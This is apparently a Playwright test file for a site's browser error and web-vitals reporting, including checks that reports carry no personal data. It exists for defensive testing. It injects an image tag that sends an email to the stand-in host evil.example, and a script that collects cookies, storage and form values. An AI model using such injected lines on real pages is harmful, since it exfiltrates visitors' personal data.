import { cpSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import type { BrowserContextOptions, Page } from 'playwright';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, onTestFinished } from 'vitest';
import type { Envelope, Report } from '../../site/lib/reports/report.ts';
import { readSiteHeaders } from '../../site/server/http/headers-file.ts';
import { linesOf } from '../../site/server/reports/browser-report.ts';
import type { RunningServer } from '../../site/server/start-server.ts';
import spec from '#spec';
import { startReceiver, type Receiver } from '../backend/support/receiver.ts';
import { openAnew, type Reopen, settled, test, wasStopped } from '../support/browser.ts';
import { buildVariant, type Variant } from '../support/variant.ts';

const perPageView = 6;
const form = spec.forms['contact-home'] ?? expect.fail();
const submit = { es: 'Publicado de nuevo', en: 'Published anew' };
const changed = { ...spec, forms: { ...spec.forms, 'contact-home': { ...form, submit } } };
const confirmation = 'Nos pondremos en contacto contigo pronto.';
const answers = { name: 'Ana Muñoz', email: 'ana@correo.example', company: 'Acme', message: 'Buenos días 🏛️' };

let receiver: Receiver<Envelope>;
/** Reports its errors, and replaces the fixture site. */
let variant: Variant;
/** Serves as a static host does: without a marker on not-found pages. */
let site: RunningServer;

beforeAll(async () => {
  receiver = await startReceiver<Envelope>();
  const reports = { url: receiver.url, perPageView, perMinute: 60 };
  variant = await buildVariant({ ...changed, integrations: { ...spec.integrations, reports } }, {}, { over: 'old' });
  site = await variant.serve();
  cpSync(join(variant.root, 'dist'), join(variant.root, 'dropped'), { recursive: true });
  const note = JSON.parse(readFileSync(join(variant.root, 'dropped', 'earlier-assets.json'), 'utf8')) as object;
  expect(Object.keys(note).length).toBeGreaterThan(2);
  for (const name of Object.keys(note))
    for (const ending of ['', '.br', '.gz'])
      rmSync(join(variant.root, 'dropped', 'client', 'assets', name + ending), { force: true });
});
afterAll(async () => {
  await site?.close();
  variant?.remove();
  await receiver.close();
});
beforeEach(() => void (receiver.received as unknown[]).splice(0));
// The server accepts the same reports, if the spec names a path on the site.
afterEach(() => {
  for (const { body } of receiver.received) expect(linesOf(JSON.stringify(body))).toHaveLength(1);
});

/** Pages also report their vitals when they are left, which other tests cover. */
function isVitals({ body }: Receiver<Envelope>['received'][number]): boolean {
  return body.reports[0]?.kind === 'vitals';
}

function mistakes(): Receiver<Envelope>['received'] {
  return receiver.received.filter((one) => !isVitals(one));
}

function allReports(): readonly Report[] {
  return mistakes().flatMap(({ body }) => body.reports);
}

/** Waits for exactly these reports, in any order. */
async function arrives(...reports: object[]): Promise<void> {
  await expect.poll(() => allReports().length).toBe(reports.length);
  for (const report of reports) expect(allReports()).toContainEqual(expect.objectContaining(report));
}

interface Changes extends BrowserContextOptions {
  /** A same-origin script at the end of the head. */
  readonly script?: string;
  /** Changes the HTML of the page. */
  readonly change?: (html: string) => string;
  readonly before?: (page: Page) => Promise<unknown>;
}

/** Opens a page of the variant with an error injected. */
function open(reopen: Reopen, path: string, { script, change, before, ...options }: Changes = {}): Promise<Page> {
  // Chromium treats a modified page as one of the public network, which needs a permission to access this machine.
  return reopen(path, { baseURL: site.url, permissions: ['local-network-access'], ...options }, async (page) => {
    await spoil(page, path, script, change);
    await before?.(page);
  });
}

/** Injects an error into a page. */
async function spoil(page: Page, path: string, script?: string, change?: Changes['change']): Promise<void> {
  await page.route('**/assets/broken-1a2b.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: script ?? '' }),
  );
  await page.route(
    ({ origin, pathname }) => origin === site.url && pathname === path.split(/[?#]/)[0],
    async (route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace(
        '</head>',
        `${script === undefined ? '' : '<script src="/assets/broken-1a2b.js"></script>'}</head>`,
      );
      await route.fulfill({ response, body: change?.(html) ?? html });
    },
  );
}

/** Waits until the reporting code is loaded, and has sent the earlier errors. */
function reporting(page: Page): Promise<unknown> {
  return page.waitForFunction(() => Object.hasOwn(window.earlyReports ?? [], 'push'));
}

const frame = expect.stringMatching(/^\/assets\/broken-1a2b\.js:1:\d+$/);

describe('a browser reports', () => {
  test('an error from before the reporting code was loaded', async ({ reopen }) => {
    await open(reopen, '/inicio', { script: 'null.x' });
    await expect
      .poll(() => mistakes().map(({ body }) => body))
      .toEqual([
        {
          from: 'browser',
          build: expect.stringMatching(/^[0-9a-f]{12}$/),
          page: 'home',
          locale: 'es',
          browser: expect.stringMatching(/^chrome\/\d+$/),
          reports: [{ kind: 'error', name: 'TypeError', code: 'nothing-there', frames: [frame] }],
        },
      ]);
  });

  test('an error and a rejection that come later', async ({ reopen }) => {
    const script =
      "addEventListener('click', () => { setTimeout(() => nothing()); Promise.reject(new RangeError('x')); })";
    const page = await open(reopen, '/en/contacto', { script, locale: 'en-US' });
    await settled(page);
    await page.locator('h1').click();
    await expect.poll(() => allReports().length).toBe(2);
    expect(allReports()).toContainEqual({
      kind: 'error',
      name: 'ReferenceError',
      code: 'unknown-name',
      frames: expect.arrayContaining([frame]),
    });
    expect(allReports()).toContainEqual({ kind: 'rejection', name: 'RangeError', code: 'other', frames: [frame] });
    expect(mistakes()[0]?.body).toMatchObject({ page: 'contact', locale: 'en' });
  });

  test('a part of the site that cannot be loaded', async ({ reopen }) => {
    const page = await open(reopen, '/inicio');
    // Otherwise the reporting code itself could fail to load.
    await reporting(page);
    await page.route('**/assets/chunks/**', (route) => route.abort());
    await page.locator('form#contact-home [name=name]').focus();
    await arrives({ kind: 'load', file: expect.stringMatching(/^\/assets\/chunks\/chunk-.+\.js$/) });
  });

  test('violations of the content security policy, with the origin at most', async ({ reopen, stopped }) => {
    const foreign = '<script>1</script><img src="https://evil.example/ana.png?email=ana">';
    await open(reopen, '/inicio', { change: (html) => html.replace('</body>', `${foreign}</body>`) });
    await arrives(
      { kind: 'policy', directive: 'script-src-elem', blocked: 'inline' },
      { kind: 'policy', directive: 'img-src', blocked: 'https://evil.example' },
    );
    await wasStopped(stopped, 2);
  });

  test('violations of Trusted Types', async ({ reopen, stopped }) => {
    await open(reopen, '/inicio', { script: "document.createElement('p').innerHTML = '<b>ana</b>'" });
    await arrives(
      { kind: 'policy', directive: 'require-trusted-types-for', blocked: 'trusted-types-sink', frames: [frame] },
      { kind: 'error', name: 'TypeError', code: 'trusted-types', frames: [frame] },
    );
    await wasStopped(stopped, 1);
  });

  test('the same error once, and a limited number of different ones', async ({ reopen }) => {
    const script = `for (let i = 0; i < 20; i += 1) setTimeout(() => { throw new Error(); });
const fail = (i) => { throw new Error(); };
${Array.from({ length: 20 }, (_, index) => `setTimeout(() => fail(${index}));`).join('\n')}
setTimeout(() => { window.done = true; }, 50);`;
    const page = await open(reopen, '/inicio', { script });
    await page.waitForFunction('window.done');
    await expect.poll(() => mistakes().length).toBe(perPageView);
    await settled(page);
    expect(new Set(allReports().map((report) => JSON.stringify(report))).size).toBe(perPageView);
    expect(mistakes()).toHaveLength(perPageView);
  });
});

describe('the web vitals of a page', () => {
  const vitals = (): readonly Report[] => receiver.received.filter(isVitals).flatMap(({ body }) => body.reports);

  test('are reported once a visit, when the first page is left, without personal data', async ({ openPage }) => {
    const page = await openPage('/contacto', { baseURL: site.url });
    await settled(page);
    await page.locator('#contact-page [name=name]').click();
    await page.keyboard.type('Ana');
    // The duration of an interaction is known after the next paint.
    await page.waitForFunction(() => performance.getEntriesByType('first-input').length > 0);
    await page.goto('/inicio');
    await expect
      .poll(vitals)
      .toEqual([{ kind: 'vitals', lcp: expect.any(Number), inp: expect.any(Number), cls: expect.any(Number) }]);
    expect(receiver.received.find(isVitals)?.body).toMatchObject({ from: 'browser', page: 'contact', locale: 'es' });
    await settled(page);
    await page.goto('/servicios');
    await settled(page);
    expect(vitals()).toHaveLength(1);
  });
});

describe('a browser does not report', () => {
  const broken = { script: 'null.x' };
  const nothing = async (page: Page): Promise<void> => {
    await settled(page);
    expect(mistakes()).toEqual([]);
  };

  test('to another site the errors of a visitor with a privacy signal', async ({ openPage }) => {
    const page = await openPage('about:blank', { baseURL: site.url });
    await page.addInitScript(() => Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }));
    await spoil(page, '/inicio', broken.script);
    await page.goto('/inicio');
    await nothing(page);
  });
});

describe('a report has no personal data', () => {
  const marks = ['marca.correo@persona.example', '5587654321', 'MarcaNombre'] as const;
  const [email, phone, name] = marks;

  test('from address, form, storage, cookies, message or page before', async ({ reopen }) => {
    // The thrown error contains everything that a script can access.
    const script = `const all = () => [location.href, document.cookie, document.referrer, JSON.stringify(localStorage), JSON.stringify(sessionStorage),
  ...[...document.querySelectorAll('input, textarea')].map((field) => field.value)].join('\\n    at x (' + location.origin + '/assets/${name}.js:1:1)\\n');
class MarcaNombre extends Error { name = ${JSON.stringify(name)} }
addEventListener('blur', () => {
  setTimeout(() => { throw new Error(all()); });
  setTimeout(() => { throw new MarcaNombre(all()); });
  setTimeout(() => { throw all(); });
  Promise.reject({ all: all() });
  JSON.parse(all());
}, true);`;
    const page = await open(reopen, `/contacto?nombre=${name}&email=${email}#${phone}`, {
      script,
      before: async (page) => {
        await page.context().addCookies([{ name: 'visitor', value: name, domain: '127.0.0.1', path: '/' }]);
        await openAnew(page, '/robots.txt');
        await page.evaluate((all) => all.forEach((mark) => localStorage.setItem(mark, mark)), [...marks]);
      },
    });
    await settled(page);
    await page.locator('#contact-page [name=name]').fill(name);
    await page.locator('#contact-page [name=email]').fill(email);
    await page.locator('#contact-page [name=phone]').fill(phone);
    await page.locator('#contact-page [name=message]').focus();
    const kinds = ['error SyntaxError', 'error Error', 'error Error', 'error none', 'rejection none'];
    await expect
      .poll(() => allReports().map((report) => `${report.kind} ${'name' in report ? report.name : ''}`))
      .toEqual(expect.arrayContaining(kinds));
    for (const mark of marks) expect(JSON.stringify(receiver.received)).not.toContain(mark);
  });

  test('nor does its request have any', async ({ reopen }) => {
    await open(reopen, `/inicio?nombre=${name}`, {
      script: 'null.x',
      before: (page) => page.context().addCookies([{ name: 'visitor', value: name, domain: '127.0.0.1', path: '/' }]),
    });
    await expect.poll(() => mistakes().length).toBe(1);
    const { headers } = mistakes()[0] ?? {};
    expect(headers).toHaveProperty('content-type', 'text/plain;charset=UTF-8');
    for (const header of ['cookie', 'referer', 'authorization']) expect(headers).not.toHaveProperty(header);
  });
});

describe('without reports in the spec', () => {
  test('without a collector, errors are sent nowhere and pages have no code for it', async ({ reopen }) => {
    expect(spec.integrations).not.toHaveProperty('reports');
    const requests: string[] = [];
    const page = await reopen('/no-hay-tal', {}, async (tab) =>
      tab.on('request', (request) => void requests.push(request.url())),
    );
    await page.evaluate(() => setTimeout(() => Promise.reject(new Error('x'))));
    await settled(page);
    expect(requests.filter((url) => new URL(url).origin !== new URL(page.url()).origin)).toEqual([]);
    expect(await page.locator('script[data-build]').count()).toBe(0);
    expect(await page.evaluate(() => 'earlyReports' in window)).toBe(false);
  });
});

/** Starts a host on which one build can replace another. */
async function startHost() {
  let server: RunningServer | undefined;
  const serve = async (build: 'old' | 'dist' | 'dropped'): Promise<string> => {
    const port = server ? Number(new URL(server.url).port) : 0;
    await server?.close();
    const dist = join(variant.root, build);
    server = await variant.serve({
      port,
      distDir: join(dist, 'client'),
      headers: readSiteHeaders(join(dist, 'headers.json')),
    });
    return server.url;
  };
  onTestFinished(() => server?.close());
  return serve;
}

/** Types the answers key by key, into whichever document is loaded. */
async function type(page: Page, values: Partial<typeof answers>): Promise<void> {
  for (const [name, value] of Object.entries(values)) await page.locator(`#contact-home [name=${name}]`).fill(value);
}

function typed(page: Page): Promise<Record<string, string>> {
  return page.locator('#contact-home').evaluate((element: HTMLFormElement, names) => {
    const data = new FormData(element);
    return Object.fromEntries(names.map((name) => [name, String(data.get(name))]));
  }, Object.keys(answers));
}

/** Stands in for the database, and returns the rows that it received. */
async function receive(page: Page): Promise<unknown[]> {
  const rows: unknown[] = [];
  await page.route('**/rest/v1/leads*', async (route) => {
    rows.push(...(route.request().postDataJSON() as unknown[]));
    await route.fulfill({ status: 201 });
  });
  return rows;
}

/** Counts the documents that a tab loads from now on. */
function countLoads(page: Page): () => number {
  let loads = 0;
  page.on('domcontentloaded', () => loads++);
  return () => loads;
}

const send = (page: Page): Promise<void> => page.locator('#contact-home [type=submit]').click();

describe('a tab that was open while the site was deployed', () => {
  test('sends its form with the old scripts, if the deployment kept them', async ({ openPage }) => {
    const serve = await startHost();
    const page = await openPage(`${await serve('old')}/inicio`);
    await settled(page);
    const rows = await receive(page);
    await serve('dist');
    const loads = countLoads(page);
    await type(page, answers);
    await send(page);
    await page.locator('.form__message--success', { hasText: confirmation }).waitFor();
    expect(rows).toEqual([answers]);
    expect(loads()).toBe(0);
  });

  test('reloads if the old scripts are gone, and keeps the form’s input and focus', async ({ openPage }) => {
    const serve = await startHost();
    const page = await openPage(`${await serve('old')}/inicio`);
    await settled(page);
    const rows = await receive(page);
    await serve('dropped');
    const loads = countLoads(page);
    // Simulates autofill: all values at once, with the focus in the last control.
    await page.locator('#contact-home').evaluate((element: HTMLFormElement, values) => {
      for (const [name, value] of Object.entries(values)) {
        const control = element.elements.namedItem(name) as HTMLInputElement;
        control.value = value;
        if (name !== 'message') continue;
        control.focus();
        control.dispatchEvent(new InputEvent('input', { bubbles: true }));
      }
    }, answers);
    await expect.poll(loads).toBe(1);
    await page.locator('[data-island=form][data-ready]').waitFor({ state: 'attached' });
    expect(await typed(page)).toEqual(answers);
    expect(new URL(page.url()).hash).toBe('#contact-home');
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('contact-home-message');
    await expect.poll(() => page.locator('#contact-home-message').evaluate(inSight)).toBe(true);
    await page.getByRole('button', { name: submit.es }).click();
    await page.locator('.form__message--success', { hasText: confirmation }).waitFor();
    expect(rows).toEqual([answers]);
    expect(loads()).toBe(1);
  });
});

function inSight(element: Element): boolean {
  const { top, bottom } = element.getBoundingClientRect();
  return bottom > 0 && top < innerHeight;
}
